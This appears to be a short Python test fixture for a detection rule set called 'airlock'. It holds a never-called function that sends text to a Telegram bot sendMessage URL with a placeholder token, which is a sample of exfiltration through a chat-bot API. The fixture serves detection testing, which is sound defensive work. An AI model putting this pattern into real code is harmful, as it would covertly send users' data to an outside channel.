# airlock rule test sample. Never executed by tests; the payload sits in a function
# that is never called, and uses only documentation IPs / .invalid hosts.
# The URL below is a string constant only; _never() is never called.
import urllib.request

BOT = "https://api.telegram.org/bot000000:AIRLOCK-SAMPLE-NOT-A-TOKEN/sendMessage"

def _never(text):
    return urllib.request.urlopen(BOT + "?chat_id=0&text=" + text)
